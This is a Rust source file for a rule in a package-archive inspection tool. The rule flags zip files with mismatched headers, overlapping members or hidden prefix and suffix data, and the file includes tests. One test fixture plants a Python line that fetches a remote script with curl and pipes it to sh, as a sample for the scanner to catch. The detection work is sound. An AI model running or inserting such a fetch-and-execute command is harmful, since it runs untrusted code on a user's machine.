use crate::archive::Hazard;
use crate::declare_rule;
use crate::inspect::rules::{hazard_findings, Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity};

declare_rule! {
    /// ## What it does
    /// Flags zip members whose declared size differs from their content, whose
    /// local header disagrees with the central directory, or whose data
    /// overlaps another member; and bytes hidden before the first member or
    /// after the end of the archive (polyglot files).
    ///
    /// ## Why is this bad?
    /// Parsers that trust different headers see different files: a scanner
    /// reads a harmless member while the installer unpacks another.
    /// Overlapping entries are also the building block of zip bombs, and a
    /// zip with a prefix can be another format's file as well.
    ///
    /// ## Example
    /// a central directory entry claiming 10 bytes for a 10 MB member (Error);
    /// archives written by `wheel`, `zipfile` or `setuptools` (No error).
    ///
    /// ## False positives
    /// None known from standard tools.
    ArchiveHeaderMismatch, id = "archive-header-mismatch", severity = Critical,
    summary = "zip headers that disagree, overlapping members, or data hidden around the archive"
}

impl Rule for ArchiveHeaderMismatch {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        // pip reads a source archive's bytes, not its name: so does guard, and says so.
        if let Some((named, actual)) = analysis.listing.format_mismatch {
            out.push(Finding {
                stage: None,
                rule: Self::META.id,
                severity: Severity::Low,
                file: None,
                line: None,
                message: format!("named as a {named} archive but its bytes are a {actual} archive; read as {actual}"),
                snippet: None,
            });
        }
        hazard_findings(Self::META.id, analysis, out, |hazard| {
            Some(match hazard {
                Hazard::HeaderMismatch { member, detail } => {
                    (Severity::Critical, Some(member), format!("`{member}`: {detail}"))
                }
                Hazard::ExtraData { detail } => (Severity::Critical, None, format!("hidden data: {detail}")),
                _ => return None,
            })
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::rules::artifact_fixture::Artifact;

    #[test]
    fn fires_on_a_zip_named_tar_gz() {
        // Issue 11: a wheel renamed `.tar.gz` is read as the zip it is (as pip does), with a
        // low finding, and its code is inspected instead of the archive being unreadable.
        let wheel = Artifact::wheel("pkg", "1.0").with_file(
            "pkg/__init__.py",
            "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n",
        );
        let bytes = wheel.bytes();
        let ins = crate::inspect::inspect_bytes("pkg-1.0.tar.gz", &bytes);
        let rules: Vec<&str> = ins.findings.iter().map(|f| f.rule).collect();
        assert!(!rules.contains(&"unreadable-archive"), "{rules:?}");
        let mismatch = ins
            .findings
            .iter()
            .find(|f| f.rule == "archive-header-mismatch")
            .expect("mismatch");
        assert_eq!(mismatch.severity, Severity::Low);
        assert!(rules.contains(&"shell-command"), "{rules:?}");
        assert_eq!(ins.name.as_deref(), Some("pkg"));
    }

    #[test]
    fn quiet_on() {
        // No error: an ordinary sdist and wheel.
        for a in [Artifact::sdist("pkg", "1.0"), Artifact::wheel("pkg", "1.0")] {
            let ins = crate::inspect::inspect_bytes(&a.filename, &a.bytes());
            assert!(
                ins.findings.iter().all(|f| f.rule != "archive-header-mismatch"),
                "{ins:?}"
            );
        }
    }
}
